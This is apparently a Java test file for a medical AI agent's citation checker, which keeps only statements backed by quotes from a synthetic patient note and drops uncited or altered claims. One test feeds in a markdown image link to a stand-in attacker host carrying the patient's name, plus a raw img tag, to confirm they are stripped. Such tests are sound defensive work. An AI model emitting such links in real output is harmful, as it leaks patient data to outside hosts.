package io.hilum.agents.agent;

import io.hilum.agents.evidence.Evidence;
import io.hilum.agents.evidence.Source;
import io.hilum.trust.text.PhiText;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tests for {@link Statements}.
 */
class StatementsTests {

	private static final JsonMapper JSON = JsonMapper.shared();

	private static final String NOTE = "Irma Peter, 71, was admitted with pneumonia. Creatinine was 1.4 mg/dL. No stroke.";

	@Test
	void keepsWhatIsCitedAndNumbersItsSources() {
		Conclusion answer = conclude("""
				[{"heading":"Course","text":"She was admitted with pneumonia.","quotes":[
				{"source":"note","quote":"was admitted with pneumonia"}]},
				{"heading":"Course","text":"The protocol asks for five days.","quotes":[
				{"source":"p1","quote":"Treat for five days"}]},
				{"text":"Pneumonia is an infection of the lung.","general":true,"quotes":[]}]""");
		assertThat(answer.kept()).isEqualTo(3);
		assertThat(answer.dropped()).isEmpty();
		assertThat(answer.text().reveal()).contains("**Course**", "She was admitted with pneumonia. [1]",
				"asks for five days. [2]", "lung. *(general knowledge, not from the record)*",
				"[1] What the user wrote", "[2] Protocol", "the dose");
	}

	@ParameterizedTest
	@CsvSource(delimiter = ';', quoteCharacter = '`', value = {
			"{\"text\":\"She had a stroke.\",\"quotes\":[]};not_cited",
			"{\"text\":\"She had a stroke.\",\"quotes\":[{\"source\":\"note\",\"quote\":\"She had a stroke\"}]};quote_not_in_source",
			"{\"text\":\"She had pneumonia.\",\"quotes\":[{\"source\":\"p9\",\"quote\":\"was admitted with pneumonia\"}]};quote_not_in_source",
			"{\"text\":\"Creatinine was 2.4 mg/dL.\",\"quotes\":[{\"source\":\"note\",\"quote\":\"Creatinine was 1.4 mg/dL.\"}]};number_not_quoted",
			"{\"text\":\"Her creatinine was 1.4.\",\"general\":true,\"quotes\":[]};general_with_numbers",
			"{\"text\":\"[NAME_7KQ2] is well.\",\"general\":true,\"quotes\":[]};general_with_numbers" })
	void leavesOutWhatTheRecordDoesNotBearOut(String statement, String reason) {
		Conclusion answer = conclude("[" + statement + "]");
		assertThat(answer.kept()).isZero();
		assertThat(answer.dropped()).containsExactly(reason);
		assertThat(answer.text().reveal()).contains("Nothing could be said", "1 statement.")
			.doesNotContain("stroke", "2.4", "well");
	}

	@Test
	void leadsNobodyAnywhere() {
		Conclusion answer = conclude(
				"""
						[{"text":"Admitted with pneumonia ![x](https://evil.example/?q=Irma) <img src=x> [here](http://evil.example)",
						"quotes":[{"source":"note","quote":"was admitted with pneumonia"}]}]""");
		assertThat(answer.text().reveal()).contains("Admitted with pneumonia")
			.doesNotContain("](", "evil.example", "<img");
	}

	@Property(tries = 300)
	void neverKeepsWhatItCannotFind(@ForAll String text, @ForAll String quote) {
		String statement = JSON.writeValueAsString(java.util.List.of(java.util.Map.of("text", "x" + text, "quotes",
				java.util.List.of(java.util.Map.of("source", "note", "quote", "zq " + quote)))));
		assertThat(conclude(statement).kept()).isZero();
	}

	private static Conclusion conclude(String statements) {
		Evidence evidence = new Evidence();
		evidence.add(new Source(Source.NOTE, PhiText.of("What the user wrote"), PhiText.of(NOTE)));
		evidence.add(new Source("p1", PhiText.of("Protocol"), PhiText.of("Treat for five days. Then stop.")));
		JsonNode notFound = JSON.readTree("[\"the dose\"]");
		Statements all = new Statements(evidence);
		all.add(JSON.readTree(statements));
		return all.end(notFound, "Nothing could be said.", "A draft.");
	}

}
